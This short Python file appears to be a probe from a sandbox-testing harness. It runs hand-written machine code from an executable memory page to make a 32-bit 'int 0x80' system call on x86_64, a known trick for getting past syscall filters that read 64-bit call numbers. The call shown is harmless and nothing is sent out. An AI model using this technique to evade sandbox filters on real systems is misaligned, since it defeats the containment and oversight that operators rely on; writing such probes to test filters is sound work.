import ctypes
import mmap
import os
import platform


def attack(universe):
    """Call by the 32-bit convention; there, the numbers mean other calls than a filter believes."""
    if platform.machine() != "x86_64":
        os.abort()
    private = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
    page = mmap.mmap(-1, 4096, flags=private, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20; int 0x80; ret
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    return {"gained": ["it went on"], "refused": []}
